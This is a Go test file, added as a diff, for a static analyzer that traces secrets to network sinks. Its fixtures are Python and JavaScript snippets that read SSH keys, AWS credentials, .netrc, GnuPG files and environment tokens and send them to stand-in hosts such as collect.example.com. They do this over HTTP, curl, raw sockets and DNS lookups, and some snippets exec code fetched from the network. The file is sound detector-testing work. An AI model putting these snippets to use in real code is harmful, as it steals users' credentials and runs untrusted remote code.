@@ -1,0 +1,253 @@
+package chain_test
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"golang.org/x/tools/txtar"
+
+	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/internal/document"
+)
+
+// follow gives the chains of some files, each as "KIND NAME -> KIND CHANNEL HOSTS".
+func follow(t *testing.T, files string, uses ...chain.Use) []string {
+	t.Helper()
+	var texts []chain.Text
+	for _, f := range txtar.Parse([]byte(files)).Files {
+		language := chain.JavaScript
+		if strings.HasSuffix(f.Name, ".py") {
+			language = chain.Python
+		}
+		texts = append(texts, chain.Text{File: f.Name, Source: f.Data, Language: language, Start: document.Position{Line: 1, Column: 1}})
+	}
+	var found []string
+	for _, c := range chain.Follow(texts, uses, func(file, why string) { found = append(found, "cut "+file+": "+why) }) {
+		part := ""
+		if c.Source.Part {
+			part = " part"
+		}
+		veiled := ""
+		if c.Sink.Veiled {
+			veiled = " veiled"
+		}
+		found = append(found, fmt.Sprintf("%s %s%s -> %s %s %s%s", c.Source.Kind, c.Source.Name, part, c.Sink.Kind, c.Sink.Channel, strings.Join(c.Sink.Hosts, " "), veiled))
+	}
+	slices.Sort(found)
+	return found
+}
+
+func TestFollow(t *testing.T) {
+	for name, c := range map[string]struct{ files, want string }{
+		"a key in the body": {`
+-- a.py --
+import os, requests
+key = os.environ["OPENAI_API_KEY"]
+requests.post("https://collect.example.com/k", json={"k": key})
+`, "variable OPENAI_API_KEY -> send body collect.example.com"},
+		"a key in a header": {`
+-- a.py --
+import os, requests
+headers = {"Authorization": f"Bearer {os.getenv('ACME_TOKEN')}"}
+r = requests.get("https://api.acme.example/v1", headers=headers, timeout=10)
+`, "variable ACME_TOKEN -> send header api.acme.example"},
+		"the whole environment": {`
+-- a.py --
+import os, json, base64, urllib.request
+data = base64.b64encode(json.dumps(dict(os.environ)).encode())
+req = urllib.request.Request("https://collect.example.com/e", data=data, method="POST")
+urllib.request.urlopen(req)
+`, "environment os.environ -> send body collect.example.com"},
+		"a file, through functions": {`
+-- a.py --
+from pathlib import Path
+import requests
+
+def read_all(names):
+    out = {}
+    for n in names:
+        p = Path.home() / n
+        if p.exists():
+            out[n] = p.read_text()
+    return out
+
+def send(payload, to=URL):
+    requests.post(to, json=payload)
+
+URL = "https://collect.example.com"
+
+def main():
+    send(read_all([".ssh/id_rsa", ".aws/credentials"]), URL)
+
+if __name__ == "__main__":
+    main()
+`, "key ~/.ssh/id_rsa -> send body collect.example.com"},
+		"across files": {`
+-- scripts/run.py --
+from lib.keys import collect
+import lib.out as out
+out.ship(collect())
+-- scripts/lib/keys.py --
+import os
+def collect():
+    with open(os.path.expanduser("~/.aws/credentials")) as f:
+        return f.read()
+-- scripts/lib/out.py --
+import urllib.request
+def ship(data):
+    urllib.request.urlopen("https://collect.example.com/?d=" + data)
+`, "login ~/.aws/credentials -> send query collect.example.com"},
+		"in a class": {`
+-- a.py --
+import os, requests
+class Client:
+    def __init__(self, token=None):
+        self.token = token or os.environ.get("ACME_TOKEN")
+        self.session = requests.Session()
+    def report(self, extra):
+        self.session.post("https://other.example.com", json={"t": self.token, **extra})
+Client().report({})
+`, "variable ACME_TOKEN -> send body other.example.com"},
+		"a host that is put together": {`
+-- a.py --
+import base64, os, requests
+h = base64.b64decode("Y29sbGVjdC5leGFtcGxlLmNvbQ==").decode()
+requests.post("https://" + h + "/x", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
+`, "key ~/.ssh/id_rsa -> send body collect.example.com veiled"},
+		"through a file": {`
+-- a.py --
+import os, shutil, subprocess
+shutil.copy(os.path.expanduser("~/.netrc"), "/tmp/stage.bin")
+subprocess.run("curl -s -F f=@/tmp/stage.bin https://collect.example.com", shell=True)
+`, "login ~/.netrc -> send command collect.example.com"},
+		"through a command": {`
+-- a.py --
+import subprocess, socket
+key = subprocess.check_output(["cat", "/home/me/.ssh/id_ed25519"]).decode()
+s = socket.socket()
+s.connect(("203.0.113.9", 4444))
+s.sendall(key.encode())
+`, "key /home/me/.ssh/id_ed25519 -> send socket 203.0.113.9"},
+		"in a name": {`
+-- a.py --
+import os, socket, binascii
+for part in [binascii.hexlify(os.environ["AWS_SECRET_ACCESS_KEY"].encode()).decode()]:
+    socket.gethostbyname(f"{part}.t.example.com")
+`, "variable AWS_SECRET_ACCESS_KEY -> send dns *.t.example.com"},
+		"an archive": {`
+-- a.py --
+import io, os, tarfile, requests
+buf = io.BytesIO()
+with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+    tar.add(os.path.expanduser("~/.gnupg"), arcname="g")
+requests.put("https://collect.example.com/up", data=buf.getvalue())
+`, "key ~/.gnupg -> send body collect.example.com"},
+		"fetched and run": {`
+-- a.py --
+import requests
+exec(requests.get("https://a.example.com/x.py").text)
+`, "network a.example.com -> evaluate  "},
+		"javascript, whole environment": {`
+-- a.js --
+const https = require('https');
+const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
+const req = https.request({ hostname: 'collect.example.com', path: '/e', method: 'POST' }, res => {});
+req.write(body);
+req.end();
+`, "environment process.env -> send body collect.example.com"},
+		"javascript, a file": {`
+-- a.mjs --
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+const file = path.join(os.homedir(), '.ssh', 'id_rsa');
+const key = fs.readFileSync(file, 'utf8');
+await fetch('https://collect.example.com/k', { method: 'POST', body: Buffer.from(key).toString('base64') });
+`, "key ~/.ssh/id_rsa -> send body collect.example.com"},
+		"typescript, through files": {`
+-- src/main.ts --
+import { readSecrets } from './secrets';
+import send from './send.js';
+export async function main(): Promise<void> {
+  const data: Record<string, string> = await readSecrets();
+  await send(data as unknown as object);
+}
+-- src/secrets.ts --
+export interface Found { name: string; value: string }
+export async function readSecrets(): Promise<Record<string, string>> {
+  const { OPENAI_API_KEY, PATH } = process.env;
+  return { key: OPENAI_API_KEY!, path: PATH! };
+}
+-- src/send.ts --
+import axios from 'axios';
+export default async (data: object) => { await axios.post<string>('https://collect.example.com', data); };
+`, "variable OPENAI_API_KEY -> send body collect.example.com"},
+		"javascript, a template": {`
+-- a.js --
+const { execSync } = require('child_process');
+const key = require('fs').readFileSync(` + "`${process.env.HOME}/.aws/credentials`" + `).toString();
+execSync(` + "`curl -X POST -d '${encodeURIComponent(key)}' https://collect.example.com`" + `);
+`, "login ~/.aws/credentials -> send command collect.example.com"},
+		"javascript, fetched and run": {`
+-- a.js --
+fetch('https://a.example.com/x.js').then(r => r.text()).then(code => eval(code));
+`, "network a.example.com -> evaluate  "},
+		"javascript, promises": {`
+-- a.js --
+const fs = require('fs/promises');
+fs.readFile(require('os').homedir() + '/.netrc').then((d) => fetch('https://collect.example.com', {method: 'POST', body: d}));
+`, "login ~/.netrc -> send body collect.example.com"},
+		"broken": {`
+-- a.py --
+import os, requests
+def f(:
+    x = [1, 2
+key = os.environ["ACME_TOKEN"]
+requests.post("https://collect.example.com", data={"k": key)
+`, "variable ACME_TOKEN -> send body collect.example.com"},
+
+		"an address of the settings": {`
+-- a.py --
+import os, requests
+requests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": "done"})
+`, ""},
+		"settings that are loaded": {`
+-- a.py --
+import os, requests
+from dotenv import load_dotenv
+load_dotenv(".env")
+requests.post("https://api.acme.example/x", json={"q": 1})
+`, ""},
+		"what a server says": {`
+-- a.py --
+import os, requests
+r = requests.get("https://api.acme.example/x", json={"q": 1})
+requests.post("https://other.example.com", json=r.json())
+`, ""},
+		"only whether it is there": {`
+-- a.py --
+import os, requests
+requests.post("https://a.example.com", json={"has": bool(os.environ.get("ACME_TOKEN")), "n": len(os.environ["ACME_TOKEN"])})
+`, ""},
+		"an environment of a process": {`
+-- a.py --
+import os, subprocess
+env = os.environ.copy()
+env["A"] = "b"
+subprocess.run(["curl", "https://a.example.com"], env=env)
+`, ""},
+		"a public key": {`
+-- a.py --
+import requests, os
+requests.post("https://a.example.com", data=open(os.path.expanduser("~/.ssh/id_ed25519.pub")).read())
+`, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if got := strings.Join(follow(t, c.files), "\n"); strings.TrimSpace(got) != strings.TrimSpace(c.want) {
+				t.Errorf("got\n%s\nwant\n%s", got, c.want)
+			}
+		})
+	}
+}
